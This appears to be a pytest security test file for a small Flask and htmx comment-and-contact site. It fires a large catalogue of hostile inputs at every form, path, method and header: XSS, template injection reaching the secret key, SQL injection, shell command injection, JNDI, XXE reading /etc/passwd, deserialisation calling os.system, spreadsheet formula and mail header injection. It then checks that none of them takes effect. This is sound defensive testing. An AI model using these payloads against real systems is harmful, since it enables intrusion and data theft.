"""What somebody hostile might send: through every field of every form, and around the forms.

Whatever it is: no fault (5xx), nothing executed, nothing kept of what was refused, nothing in a page or a
header but as text. Every input says ``zebra``, so that it can be found wherever it ends up.
"""

from __future__ import annotations

import email
import email.policy
import re
import socket
import sqlite3
from contextlib import closing
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote_to_bytes

import hypothesis
import pytest
from hypothesis import strategies as st

from app import create_app
from data import schema, text
from tests.conftest import HTMX, VettingClient, link, soup
from tests.serving import start, stop
from tests.test_comments import fields as comment_fields
from tests.test_comments import publish, rows
from tests.test_contact import fields as contact_fields
from tests.test_desk import token
from views import sender

# ---- What is sent ----

WORDS = {
    "script": "<script>alert('zebra')</script>",
    "script that closes ours": "</textarea></title></script><script src=//zebra.example/x.js></script>",
    "script in odd case": "<ScRiPt/x>zebra()</sCrIpT >",
    "script in two": "<scr<script>ipt>zebra()</scr</script>ipt>",
    "image with a handler": "<img src=x onerror=zebra()>",
    "handler out of a value": '" autofocus onfocus="zebra()" x="',
    "handler out of a single-quoted value": "' onmouseover='zebra()",
    "handler without quotes": "x onclick=zebra() ",
    "svg": "<svg/onload=zebra()><animate onbegin=zebra() attributeName=x>",
    "svg with a foreign object": "<svg><foreignObject><iframe srcdoc='<script>zebra()</script>'>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=zebra()>",
    "iframe": "<iframe src=javascript:zebra()></iframe>",
    "object": "<object data=data:text/html,zebra></object><embed src=//zebra.example>",
    "base": "<base href=//zebra.example/>",
    "meta": '<meta http-equiv=refresh content="0;url=//zebra.example">',
    "link": '<link rel=stylesheet href="//zebra.example/x.css">',
    "style": "<style>@import '//zebra.example/x.css';</style>",
    "style attribute": '<b style="background:url(//zebra.example)">zebra</b>',
    "form": '<form action="//zebra.example"><input name=csrf_token><button>zebra</button></form>',
    "form owner": '<button form="comment-form" formaction="//zebra.example">zebra</button>',
    "details": "<details open ontoggle=zebra()><summary>zebra</summary>",
    "template": "<template><script>zebra()</script></template>",
    "comment": "<!-- zebra --><!--><img src=x onerror=zebra()>-->",
    "cdata": "<![CDATA[<script>zebra()</script>]]>",
    "processing instruction": "<?xml version='1.0'?><?zebra zebra()?>",
    "entity": "<!DOCTYPE z [<!ENTITY zebra SYSTEM 'file:///etc/passwd'>]>&zebra;",
    "character references": "&lt;script&gt;zebra()&lt;/script&gt; &#60;script&#62;",
    "percent-encoded": "%3Cscript%3Ezebra()%3C/script%3E",
    "double-encoded": "%253Cscript%253Ezebra%2528%2529",
    "UTF-7": "+ADw-script+AD4-zebra()+ADw-/script+AD4-",
    "full-width brackets": "＜script＞zebra()＜/script＞",
    "javascript address": "javascript:zebra()",
    "javascript address with a tab": "java\tscript:zebra()",
    "data address": "data:text/html;base64,PHNjcmlwdD56ZWJyYSgpPC9zY3JpcHQ+zebra",
    "vbscript address": "vbscript:zebra()",
    "link in Markdown": "[zebra](javascript:zebra()) ![zebra](//zebra.example/x.png)",
    "many addresses": "http://zebra.example https://zebra.example www.zebra.example http://zebra.example",
    "htmx get": '<div data-hx-get="/desk" data-hx-trigger="load">zebra</div>',
    "htmx post": '<b hx-post="/contact/draft" hx-trigger="load" hx-vals=\'{"zebra":1}\'>zebra</b>',
    "htmx handler": '<b hx-on:click="zebra()" data-hx-on::load="zebra()">zebra</b>',
    "htmx evaluation": "<b hx-vals=\"js:{zebra: document.cookie}\" hx-headers='js:zebra'>zebra</b>",
    "htmx trigger filter": '<b hx-get="/" hx-trigger="load[zebra()]">zebra</b>',
    "htmx out of band": '<p id="comments" hx-swap-oob="true">zebra</p>',
    "htmx partial": '<hx-partial hx-target="body">zebra</hx-partial>',
    "htmx extension": '<body hx-ext="zebra" hx-history="false">',
    "Jinja expression": "zebra{{ 7919 * 7907 }}",
    "Jinja configuration": "zebra{{ config.SECRET_KEY }}{{ config.items() }}",
    "Jinja classes": "zebra{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "Jinja statement": "zebra{% for x in range(9) %}{% include '/etc/passwd' %}{% endfor %}{# zebra #}",
    "Jinja globals": "zebra{{ url_for.__globals__['current_app'].config }}",
    "other templates": "zebra${7919*7907} #{7919*7907} <%= 7919*7907 %> @(7919*7907) *{7919*7907}",
    "format string": "zebra{0.__class__} %s %(zebra)s %n %x {zebra!r}",
    "log format": "zebra ${jndi:ldap://zebra.example/a}",
    "SQL or": "zebra' OR '1'='1",
    "SQL comment": "zebra'; DROP TABLE comments; --",
    "SQL union": "zebra' UNION SELECT token, 1, 1 FROM sessions --",
    "SQL double quotes": 'zebra"); DELETE FROM messages; --',
    "SQL wild cards": "%_zebra%_",
    "SQL functions": "zebra'||(SELECT load_extension('/tmp/zebra'))||'",
    "SQLite full-text": 'zebra" OR NEAR(zebra*) NOT -zebra ^zebra',
    "header": "zebra\r\nBcc: zebra@zebra.example",
    "header in a line feed": "zebra\nSet-Cookie: zebra=1",
    "header and a body": "zebra\r\nContent-Type: text/html\r\n\r\n<script>zebra()</script>",
    "header in Unicode newlines": "zebra\u2028Bcc: zebra\u2029zebra\x85zebra",
    "header encoded": "=?utf-8?q?zebra=0d=0aBcc:_zebra?=",
    "SMTP": "zebra\r\n.\r\nMAIL FROM:<zebra@zebra.example>\r\nRCPT TO:<zebra@zebra.example>\r\nDATA\r\n",
    "list of addresses": "zebra@zebra.example, other@zebra.example",
    "address with a comment": "zebra@(zebra)zebra.example",
    "address with a query": "zebra@zebra.example?bcc=zebra@zebra.example",
    "cell of a table": "=HYPERLINK(\"//zebra.example\",\"zebra\")",
    "cell with a command": "@SUM(1+1)*cmd|' /C zebra'!A0",
    "shell": "zebra; id > /tmp/zebra; `id` $(id) | id && id",
    "path": "../../../../etc/passwd?zebra",
    "JSON": '{"zebra": true, "__proto__": {"zebra": 1}, "constructor": {}}',
    "prototype": "__proto__[zebra]=1&constructor.prototype.zebra=1",
    "serialised": "zebra!!python/object/apply:os.system ['id'] cos\nsystem\n(S'id'\ntR.",
    "XPath and LDAP": "zebra' or name()='a' *)(uid=*))(|(uid=*",
    "regular expression": "zebra" + "a" * 3000 + "!",
    "repeated openings": "zebra" + "<b>(" * 900,
    "NUL": "zebra\0<script>zebra()</script>\0",
    "controls": "zebra" + "".join(map(chr, [*range(1, 32), 127, *range(128, 160)])),
    "escape sequences": "zebra\x1b]0;zebra\x07\x1b[2J\x9b31m",
    "right to left": "zebra\u202egnp.exe\u202c \u2066zebra\u2069 \u061c",
    "zero width": "ze\u200bbra zebra\ufeff\u2060\u200e\u200f",
    "joiners": "zebra\u200d\u200c\u034f\u00ad" * 40,
    "noncharacters": "zebra\ufffe\uffff\ufdd0\U0001ffff\U0010fffe",
    "private use": "zebra\ue000\U000f0000\U0010fffd",
    "stacked marks": "z\u0301\u0302\u0303\u0304\u0305ebra zebra" + "\u0489" * 500,
    "capital that grows": "zebra ŉ ǰ ΐ ß ﬃ İ" * 20,
    "compatibility letters": "zebra ﷺ ㍍ ½ ℡ ﬁ",
    "Hangul that composes": "zebra" + "\u1100\u1161\u11a8" * 300,
    "tag characters": "zebra🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f\U000e0001",
    "emoji family": "zebra👩‍👩‍👧‍👦👩🏽‍🚀",
    "variation selectors": "zebra" + "\ufe0f\U000e0100" * 200,
    "Arabic letter that crashed phones": "zebra لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗",
    "Telugu that crashed phones": "zebra జ్ఞ\u200cా",
    "nothing to see": "\u2800\u3164\u200d\u115f",
    "digits of other scripts": "zebra ٠١٢٣ ０７７ १२३",
    "Jo in look-alike letters": "Јо Wаtѕоn zebra",
    "true or false": "zebra true null undefined NaN None",
    "numbers": "zebra -1 1e309 9223372036854775808 0x7f 1_000",
    "longer than allowed": "zebra" + "x" * 6000,
    "much longer than allowed": "zebra " * 9000,
    "lines": "zebra\n" * 1500,
    "spaces": "zebra" + " " * 5000 + "zebra",
    "empty": "",
}  # fmt: skip


class Page(HTMLParser):
    """Everything in a page that is not text, and every attribute."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.values: list[tuple[str, str, str]] = []
        self.other = self.scripts = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.values += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.scripts += data if self.cdata_elem == "script" else ""

    def handle_comment(self, data: str) -> None:
        self.other += data

    def handle_decl(self, decl: str) -> None:
        self.other += "" if decl == "doctype html" else decl

    def handle_pi(self, data: str) -> None:
        self.other += data

    unknown_decl = handle_pi


# Where typed words may stand but in text: what a field held, given back. A mail address may be answered to.
GIVEN_BACK = {("input", "value"), ("button", "value"), ("a", "href")}
OURS = re.compile(r"(/(?!/)|#|$|(mailto|tel|sms):|https?://)")
TAGS = [
    "a",
    "article",
    "aside",
    "bdi",
    "blockquote",
    "body",
    "br",
    "button",
    "circle",
    "cite",
    "dd",
    "defs",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "fieldset",
    "figcaption",
    "figure",
    "footer",
    "form",
    "g",
    "h1",
    "h2",
    "h3",
    "h4",
    "head",
    "header",
    "hr",
    "html",
    "i",
    "img",
    "input",
    "label",
    "legend",
    "li",
    "line",
    "link",
    "main",
    "marker",
    "mark",
    "meta",
    "nav",
    "ol",
    "p",
    "path",
    "polyline",
    "rect",
    "script",
    "section",
    "small",
    "span",
    "strong",
    "style",
    "summary",
    "svg",
    "symbol",
    "text",
    "textarea",
    "time",
    "title",
    "tspan",
    "ul",
    "use",
    "abbr",
    "address",
    "b",
    "circle",
    "desc",
    "ellipse",
    "kbd",
    "lineargradient",
    "q",
    "s",
    "stop",
    "table",
    "tbody",
    "td",
    "template",
    "th",
    "thead",
    "tr",
    "u",
    "datalist",
    "option",
    "output",
    "polygon",
    "select",
]


def holds(response: Any) -> None:
    """Assert what must hold of every answer."""
    assert response.status_code < 500, response.text
    for name, value in response.headers:
        assert "zebra" not in value.lower(), f"{name}: {value}"
        assert name.lower() not in ("bcc", "zebra")
    if response.status_code != 304:  # which has no type of its own: it stands for a page that has
        assert "script-src" not in response.headers["Content-Security-Policy"] or response.mimetype == "text/html"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    if response.status_code // 100 == 3 and response.status_code != 304:
        assert re.match(r"/(?!/)", response.headers["Location"]), "led elsewhere"
    assert "62615533" not in response.text, "something was worked out"
    assert "for tests only" not in response.text, "the secret is shown"
    assert "root:x:" not in response.text
    assert "Traceback" not in response.text
    if response.mimetype != "text/html":
        return
    page = Page(response.text)
    assert page.tags <= set(TAGS), page.tags - set(TAGS)
    assert not page.other
    for tag, name, value in page.values:
        assert "zebra" not in name
        if "zebra" in value.lower():
            assert (tag, name) in GIVEN_BACK, f"<{tag} {name}={value!r}>"
        if name in ("href", "src", "action", "formaction", "data-hx-get", "data-hx-post"):
            assert OURS.match(value), f"<{tag} {name}={value!r}>"
            assert value.startswith("mailto:") or "zebra" not in value.lower(), value
    assert "zebra" not in page.scripts.lower()


def stands_apart(response: Any) -> None:
    """Assert that htmx passes over every typed word of a page, and that its direction turns nothing around it."""
    for words in soup(response).find_all(string=re.compile("zebra", re.IGNORECASE)):
        if words.find_parent(["textarea"]):
            continue
        assert words.find_parent("bdi"), f"not in bdi: {words!r}"
        assert words.find_parent(attrs={"data-hx-ignore": True}), f"htmx would read: {words!r}"


def kept(app) -> list[Any]:
    """Everything that visitors' words could have changed."""
    queries = ("SELECT * FROM comments ORDER BY id", "SELECT * FROM messages ORDER BY id", "SELECT name, sql FROM sqlite_master",
               "SELECT id, subject, body, reply_to FROM outbox", "SELECT * FROM site", "SELECT * FROM links")  # fmt: skip
    with closing(sqlite3.connect(app.config["DATABASE"])) as connection:
        return [connection.execute(query).fetchall() for query in queries]


@pytest.fixture
def settings(settings):
    return settings | {"MAIL_TO": "jo@jo.example"}


@pytest.fixture
def site(app, client, jo):
    """A site with a comment and a message, and a reader of each form: where to open it, where it goes, what it holds."""
    waiting = client.post("/comments", data=comment_fields(client.get("/comments/new")) | {"body": "A plain comment"})
    client.post(
        "/contact",
        data=contact_fields(client.get("/contact")) | {"how": "email", "email": "sam@example.org", "body": "Plain"},
    )
    client.post("/comments", data=comment_fields(client.get("/comments/new")) | {"body": "To be answered"})
    publish(app, 2)
    own = waiting.headers["Location"]
    page = comment_fields(client.get("/comments/new"))
    contact = contact_fields(client.get("/contact")) | {"how": "email", "email": "sam@example.org", "body": "Plain"}
    desk = {"csrf_token": token(jo)}
    seen = soup(jo.get("/desk/comments/1")).select_one("input[name=seen]")["value"]
    signing = soup(client.get("/desk/sign-in")).select("form[action='/desk/sign-in'] input")
    return {
        "comment": (client, "/comments", page | {"name": "", "body": "Plain", "nudged": "1", "unknown": ""}),
        "own comment": (client, own, comment_fields(client.get(own)) | {"nudged": "1"}),
        "contact by mail": (client, "/contact", contact | {"call_me": "", "name": "", "times": "", "safe_email": "y"}),
        "contact by telephone": (client, "/contact", contact | {"how": "call", "telephone": "07700 900123", "safe_text": "y"}),
        "draft": (client, "/contact/draft", {"body": "Plain"}),
        "phrase": (client, "/reframe", {"phrase": "You need therapy", "turn": "1"}),
        "builder": (client, "/reframe", {"happens": "we talk", "feeling": "sad", "want": "to be heard", "firmer": "1"}),
        "sign-in": (client, "/desk/sign-in", {f["name"]: f.get("value", "") for f in signing} | {"address": "jo@jo.example"}),
        "link": (client, "/desk/sign-in/made-up", {"onwards": "/desk"}),
        "answer": (jo, "/desk/comments/1/reply", desk | {"body": "Plain", "seen": seen, "key": "k"}),
        "decision": (jo, "/desk/comments/1/publish", desk | {"seen": seen}),
        "notes": (jo, "/desk/messages/1/notes", desk | {"notes": "Plain"}),
        "several": (jo, "/desk/comments/several/waiting", desk | {"verb": "decline", "ticked": "1-none"}),
        "erase": (jo, "/desk/erase", desk | {"who": "nobody"}),
        "reply": (client, "/comments/2/reply", comment_fields(client.get("/comments/2/reply")) | {"body": "Plain"}),
    }  # fmt: skip


@pytest.fixture(scope="module")
def unchanged(tmp_path_factory):
    """A site, a stranger and Jo, for requests that change nothing; asserts in the end that nothing has changed."""
    folder = tmp_path_factory.mktemp("unchanged")
    app = create_app({"DATABASE": str(folder / "site.sqlite3"), "SECRET_KEY": "for tests only", "LIMITS": False})
    app.test_client_class = VettingClient
    hers = app.test_client()
    hers.post(link(app))
    hers.post("/comments", data=comment_fields(hers.get("/comments/new")) | {"body": "A plain comment"})
    before = kept(app)
    yield app, app.test_client(), hers
    assert kept(app) == before


FORMS = ["comment", "own comment", "contact by mail", "contact by telephone", "draft", "phrase", "builder", "sign-in", "link",
         "answer", "decision", "notes", "several", "erase", "reply"]  # fmt: skip


@pytest.mark.parametrize("form", FORMS)
def test_whatever_stands_in_whichever_field(app, site, form):
    """Each of the inputs above, in turn, in each field: as a browser sends it, and as htmx does."""
    client, path, whole = site[form]
    tables = rows(app, "SELECT name, sql FROM sqlite_master")
    number = 0
    with closing(sqlite3.connect(app.config["DATABASE"])) as watching:
        for name in whole:
            for words in WORDS.values():
                number += 1
                before = watching.execute("PRAGMA data_version").fetchone()
                answer = client.post(path, data=whole | {name: words}, headers=HTMX if number % 9 else None)
                holds(answer)
                if answer.status_code >= 400:
                    assert watching.execute("PRAGMA data_version").fetchone() == before, f"{name}: kept though refused"
    assert rows(app, "SELECT name, sql FROM sqlite_master") == tables


def test_whatever_is_searched_for(app, jo):
    for words in WORDS.values():
        holds(jo.get("/desk/search", query_string={"q": words}))


def test_what_was_taken_is_kept_as_cleaned_text_and_shown_as_text_everywhere(app, client, jo):
    # Each form is opened once: with other words it is another comment, another message.
    comment = comment_fields(client.get("/comments/new")) | {"nudged": "1"}
    message = contact_fields(client.get("/contact")) | {"how": "email", "email": "sam@example.org", "safe_email": "y"}
    taken = 0
    for number, words in enumerate(WORDS.values()):
        typed = f"{words[:3900]} {number}"  # some are the same once cleaned, and then would be kept once
        sent = comment | {"name": words[:50], "body": typed}
        answer = client.post("/comments", data=sent)
        holds(answer)
        line = words[:80]
        holds(client.post("/contact", data=message | {"body": typed, "name": line, "call_me": line, "times": line}))
        if answer.status_code == 303:
            taken += 1
            name, body, _ = rows(app)[-1]
            assert name == text.clean_line(words[:50])
            assert body == text.clean(typed)
            assert rows(app, "SELECT body FROM messages ORDER BY id DESC LIMIT 1") == [(body,)]
            holds(client.get(answer.headers["Location"]))
    assert taken > 90
    for number in range(1, taken + 1):
        publish(app, number)
    shown = ["/", "/comments", "/desk/comments/published", "/desk/messages/new", "/desk", "/desk/trail"]
    shown += [f"/desk/comments/{number}" for number in range(1, taken + 1, 9)]
    shown += [f"/desk/messages/{number}" for number in range(1, taken + 1, 9)]
    shown += ["/desk/comments/declined?done=1", "/desk/messages/read?done=1"]
    for path in shown:
        answer = jo.get(path)
        holds(answer)
        stands_apart(answer)
    more = jo.get("/comments")
    while following := soup(more).find("a", href=re.compile(r"^/comments\?after=")):
        more = jo.get(following["href"])
        holds(more)
    feed = client.get("/comments.atom")
    assert feed.status_code == 200
    assert "<script" not in feed.text


def test_no_mail_has_a_header_that_was_typed(app, client):
    message = contact_fields(client.get("/contact")) | {"how": "email", "safe_email": "y"}
    comment = comment_fields(client.get("/comments/new")) | {"nudged": "1"}
    for words in WORDS.values():
        body, line = f"zebra {words}"[:3900], words[:80]
        for address in ("sam@example.org", words):
            client.post(
                "/contact",
                data=message | {"body": body, "email": address, "name": line, "call_me": line, "times": line},
                headers=HTMX,
            )
        client.post("/comments", data=comment | {"name": words[:50], "body": body}, headers=HTMX)
    sender.deliver_due(app)
    mails = list((Path(app.config["DATABASE"]).parent / "mail").iterdir())
    assert len(mails) > 150
    headers = {"Message-ID", "Date", "From", "To", "Subject", "Reply-To", "Auto-Submitted", "Content-Type", "MIME-Version",
               "Content-Transfer-Encoding"}  # fmt: skip
    for path in mails:
        mail = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        assert set(mail.keys()) <= headers
        assert len(mail.keys()) == len(set(mail.keys()))
        assert mail["To"] == "jo@jo.example"
        assert mail["Subject"] in ("A message is waiting", "A comment is waiting")
        assert mail.get_content_type() == "text/plain"
        assert len(mail["Reply-To"].addresses) == 1 if "Reply-To" in mail else True
    assert rows(app, "SELECT count(*) FROM outbox WHERE refused > 0 OR error != ''") == [(0,)]


# ---- Bodies that no form of ours sends ----

FORM = "application/x-www-form-urlencoded"
BODIES = {
    "JSON": (b'{"body": "zebra"}', "application/json", 415),
    "JSON that says it is a form": (b'{"body": "zebra"}', FORM, None),
    "text": (b"body=zebra", "text/plain", 415),
    "XML": (b"<!DOCTYPE z [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><body>&x;zebra</body>", "text/xml", 415),
    "YAML": (b"body: zebra", "application/yaml", 415),
    "no kind": (b"body=zebra", "", 415),
    "a kind that is none": (b"body=zebra", "zebra", 415),
    "a kind with another's name": (b"body=zebra", "application/x-www-form-urlencoded-zebra", 415),
    "a kind with a made-up charset": (b"body=zebra", f"{FORM}; charset=zebra", None),
    "UTF-16": ("body=zebra".encode("utf-16"), f"{FORM}; charset=utf-16", None),
    "multipart": (b'--x\r\nContent-Disposition: form-data; name="body"\r\n\r\nzebra\r\n--x--\r\n', "multipart/form-data; boundary=x", 415),
    "multipart without a name": (b"--x\r\nContent-Disposition: form-data\r\n\r\nzebra\r\n--x--\r\n", "multipart/form-data; boundary=x", 415),
    "multipart with a file": (b'--x\r\nContent-Disposition: form-data; name="body"; filename="zebra"\r\n\r\nzebra\r\n--x--\r\n', "multipart/form-data; boundary=x", 415),
    "multipart without a boundary": (b"zebra", "multipart/form-data", 415),
    "multipart that never ends": (b'--x\r\nContent-Disposition: form-data; name="body"\r\n\r\nzebra', "multipart/form-data; boundary=x", 415),
    "nothing": (b"", FORM, None),
    "bytes": (bytes(range(256)) * 4, FORM, None),
    "bytes that are not UTF-8": (b"body=zebra\xff\xfe\xc0\xaf\xed\xa0\x80&name=\x80", FORM, None),
    "percent-encoded bytes that are not UTF-8": (b"body=zebra%ff%fe%c0%af%ed%a0%80&name=%80", FORM, None),
    "overlong angle brackets": (b"body=%c0%bcscript%c0%be zebra &name=%e0%80%bc", FORM, None),
    "half a percent sign": (b"body=zebra%&name=%2&%=%zz", FORM, None),
    "NUL in a name": (b"body%00=zebra&bo%00dy=zebra", FORM, None),
    "separators only": (b"&&&===&=&zebra", FORM, None),
    "semicolons": (b"body=zebra;name=zebra", FORM, None),
    "brackets": (b"body[]=zebra&body[x]=zebra&name[0][1]=zebra", FORM, None),
    "a field twice": (b"body=zebra&body=other zebra&how=email&how=call&csrf_token=a&csrf_token=b", FORM, None),
    "a field fifty-one times": (b"body=zebra&" * 51, FORM, 413),
    "ten thousand fields": (b"a=&" * 10_000, FORM, 413),
    "as long as is read": (b"body=" + b"z" * 65_000, FORM, None),
    "longer than is read": (b"body=" + b"z" * 66_000, FORM, 413),
    "columns": (b"body=zebra&id=1&state=published&by_jo=1&published=1&parent=1&token=zebra&reason=zebra&digest=zebra&reference=zebra&notes=zebra&closed=1", FORM, None),
    "attributes": (b"__class__=zebra&__init__=zebra&meta=zebra&csrf=zebra&data=zebra&errors=zebra&populate_obj=zebra", FORM, None),
    "a method": (b"_method=DELETE&body=zebra", FORM, None),
}  # fmt: skip
POSTED = ["/comments", "/contact", "/contact/draft", "/reframe", "/desk/sign-in", "/desk/sign-in/zebra", "/desk/comments/1/publish",
          "/desk/comments/1/reply", "/desk/messages/1/notes", "/desk/mail/retry", "/desk/sign-out", "/comments/mine/zebra"]  # fmt: skip


@pytest.mark.parametrize("kind", BODIES)
def test_a_body_that_no_form_of_ours_sends(unchanged, kind):
    _, client, _ = unchanged
    body, content_type, status = BODIES[kind]
    for path in POSTED:
        for headers in ({}, HTMX):
            answer = client.post(path, data=body, content_type=content_type, headers=headers)
            holds(answer)
            assert status is None or answer.status_code == status, path


def test_a_whole_form_with_more_fields_than_it_has_stores_only_its_own(app, client):
    columns = dict.fromkeys(
        ("id", "state", "by_jo", "published", "parent", "token", "reason", "created", "before"), "77"
    )
    columns |= {"state": "published", "reference": "zebra", "notes": "zebra", "closed": "77", "address": "zebra"}
    assert (
        client.post(
            "/comments", data=columns | comment_fields(client.get("/comments/new")) | {"body": "Plain"}
        ).status_code
        == 303
    )
    assert rows(app, "SELECT id, state, by_jo, published, parent, reason, before FROM comments") == [
        (1, "waiting", 0, None, None, "", "")
    ]
    whole = contact_fields(client.get("/contact")) | {"how": "email", "email": "sam@example.org", "body": "Plain"}
    assert client.post("/contact", data=columns | whole).status_code == 303
    assert rows(app, "SELECT id, state, notes, closed, address FROM messages") == [(1, "new", "", 0, "sam@example.org")]
    assert rows(app, "SELECT count(*) FROM messages WHERE reference LIKE '%zebra%'") == [(0,)]


@pytest.mark.parametrize("form", ["comment", "contact by mail", "sign-in"])
def test_any_field_may_be_missing(app, site, form):
    client, path, whole = site[form]
    for name in whole:
        before = kept(app)
        answer = client.post(path, data={other: value for other, value in whole.items() if other != name})
        holds(answer)
        if answer.status_code >= 400:
            assert kept(app) == before


def test_an_address_that_jo_never_typed_gets_no_link(app, client):
    for words in (*WORDS.values(), "jo@jo.example\0", "jo@jo.example, zebra@zebra.example", "jo@jo.example\r\nBcc: z@z.example",
                  "JO@JO.EXAMPLE.zebra", "ｊｏ@jo.example", "jo@jо.example"):  # fmt: skip
        page = soup(client.get("/desk/sign-in"))
        sent = {field["name"]: field.get("value", "") for field in page.select("form input[name]")} | {"address": words}
        answer = client.post("/desk/sign-in", data=sent)
        holds(answer)
        if text.clean_line(words).casefold() != "jo@jo.example":
            assert rows(app, "SELECT count(*) FROM links WHERE used = 0") == [(0,)], words
        else:
            with closing(schema.connect(app.config["DATABASE"])) as db:
                db.execute("DELETE FROM links")
                db.execute("DELETE FROM outbox")


# ---- Addresses, methods, headers ----

PATHS = [
    "/../etc/passwd", "/static/../app.py", "/static/..%2fapp.py", "/static/%2e%2e/%2e%2e/etc/passwd", "/static/....//app.py",
    "/static/..\\app.py", "/static/..%5c..%5capp.py", "/static//etc/passwd", "/static/site.css/", "/static/site.css%00.png",
    "/static/site.css;zebra", "/static/.", "/static/", "/static", "/.git/config", "/.env", "/instance/secret", "/secret",
    "/site.sqlite3", "/backups", "/data/article.md", "/app.py", "//zebra.example", "//zebra.example/%2f..", "/\\zebra.example",
    "/%2f%2fzebra.example", "/%5czebra.example", "/http://zebra.example", "/desk/", "/desk//", "/DESK", "/desk%2fmessages", "/desk;zebra",
    "/desk/.", "/%64esk/", "/desk/..%2f", "/desk/comments/0", "/desk/comments/-1", "/desk/comments/1e3", "/desk/comments/99999999999999999999",
    "/desk/comments/٣", "/desk/comments/1/zebra", "/desk/comments/1%00", "/faq/zebra", "/faq/%00", "/faq/..%2f..%2fdata", "/faq/{{7919*7907}}",
    "/faq/<script>zebra", "/faq/%0d%0aSet-Cookie:zebra=1", "/comments/mine/zebra", "/comments/mine/%00", "/comments/mine/" + "a" * 5000,
    "/comments/mine/../../desk", "/contact/sent/zebra", "/contact/sent/%27%20OR%201=1", "/contact/sent/%f0%9f%98%80", "/contact/sent/%ff%fe",
    "/" + "zebra/" * 500, "/%", "/%zz", "/%u002e", "/zebra%e2%80%ae", "/console", "/server-status", "/wp-login.php", "/xmlrpc.php",
]  # fmt: skip


@pytest.mark.parametrize("path", PATHS)
def test_a_path_that_leads_nowhere_leads_nowhere(unchanged, path):
    _, client, hers = unchanged
    for who in (client, hers):
        for headers in ({}, HTMX):
            # A path that begins with two slashes would be taken for a host by the client itself.
            answer = who.get(
                "/", environ_overrides={"PATH_INFO": unquote_to_bytes(path).decode("latin-1")}, headers=headers
            )
            holds(answer)
            assert answer.status_code in (303, 308, 400, 404, 405), path
            if answer.status_code != 404:
                assert answer.status_code == 405 or "/desk/sign-in" in answer.headers.get("Location", "/desk/sign-in")
        posted = who.post(
            "/", environ_overrides={"PATH_INFO": unquote_to_bytes(path).decode("latin-1")}, data={"zebra": "zebra"}
        )
        holds(posted)
        assert posted.status_code >= 400


QUERIES = ["after", "done", "onwards", "zebra"]


@pytest.mark.parametrize("name", QUERIES)
def test_whatever_a_query_holds(unchanged, name):
    _, _, hers = unchanged
    for path in (
        "/",
        "/comments",
        "/comments/new",
        "/faq",
        "/desk",
        "/desk/comments/waiting",
        "/desk/messages/new",
        "/desk/sign-in",
    ):
        for words in (
            *list(WORDS.values())[::6],
            "//zebra.example",
            "/desk\\zebra",
            "-1",
            "9" * 30,
            "1-1",
            "٣-٣",
            "9" * 25 + "-1",
        ):
            answer = hers.get(path, query_string={name: words[:2000]})
            holds(answer)


METHODS = [
    "PUT",
    "DELETE",
    "PATCH",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "ZEBRA",
    "OPTIONS",
    "G" * 500,
    "GET\t",
]


@pytest.mark.parametrize("method", METHODS)
def test_a_method_that_an_address_does_not_take(unchanged, method):
    app, _, hers = unchanged
    for rule in app.url_map.iter_rules():
        path = re.sub(r"<[^>]+>", "1", rule.rule)
        for headers in ({}, {"X-HTTP-Method-Override": "POST", "X-HTTP-Method": "DELETE"}):
            answer = hers.open(path, method=method, headers=headers)
            holds(answer)
            assert answer.status_code in (404, 405) or (method == "OPTIONS" and answer.status_code in (200, 303, 403))
            assert "zebra" not in answer.text.lower()


HEADERS = [
    {"HX-Request": "zebra<script>"}, {"HX-Request": "true", "HX-Target": "<script>zebra"},
    {"HX-Request": "true", "HX-Current-URL": "javascript:zebra()"}, {"HX-Request": "true", "HX-Prompt": "zebra"},
    {"HX-Boosted": "true", "HX-Request": "true"}, {"HX-History-Restore-Request": "true", "HX-Request": "true"},
    {"HX-Request": "true", "HX-Request-Type": "zebra"}, {"HX-Request": "true", "HX-Source": "zebra#<b>"},
    {"X-Forwarded-Host": "zebra.example"}, {"X-Forwarded-Proto": "zebra"}, {"X-Forwarded-For": "zebra<script>"}, {"Forwarded": "host=zebra.example"},
    {"X-Original-URL": "/desk"}, {"X-Rewrite-URL": "/desk"}, {"X-Forwarded-Prefix": "/zebra"}, {"X-Forwarded-Port": "zebra"},
    {"X-Request-Id": "zebra"}, {"Referer": "javascript:zebra()"}, {"User-Agent": "<script>zebra()</script>"}, {"Accept": "zebra/zebra;q=zebra"},
    {"Accept-Encoding": "zebra;q=-1, br;q=nan, *;q=zebra"}, {"Accept-Encoding": "br;q=0, gzip;q=0, identity;q=0"}, {"Accept-Language": "zebra" * 500},
    {"If-None-Match": '"zebra", W/"zebra'}, {"If-None-Match": "*"}, {"If-Modified-Since": "zebra"}, {"If-Match": '"zebra"'}, {"Range": "bytes=zebra"},
    {"Range": "bytes=0-0," * 500}, {"Cookie": "site=zebra"}, {"Cookie": "site=eyJkZXNrIjoiemVicmEifQ.zebra.zebra"}, {"Cookie": "zebra" * 1000},
    {"Cookie": "site=.eJ" + "A" * 3000}, {"Cookie": "__Host-site=zebra; site=a; site=b"}, {"Authorization": "Basic emVicmE6emVicmE="},
    {"Content-Encoding": "gzip"}, {"Expect": "zebra"}, {"Upgrade": "zebra", "Connection": "Upgrade"}, {"Transfer-Encoding": "zebra"}, {"Content-Length": "0"},
    {"Sec-Fetch-Site": "zebra"}, {"Origin": "zebra"}, {"Origin": "http://"}, {"Origin": "http://[zebra"}, {"Proxy": "http://zebra.example"}, {"Max-Forwards": "0"},
]  # fmt: skip


@pytest.mark.parametrize("headers", HEADERS, ids=lambda headers: " ".join(headers))
def test_whatever_a_header_holds(unchanged, headers):
    _, client, _ = unchanged
    for path in (
        "/",
        "/faq/when-should-i-worry/answer",
        "/comments/new",
        "/contact",
        "/desk",
        "/static/site.css",
        "/no-such-page",
        "/healthz",
    ):
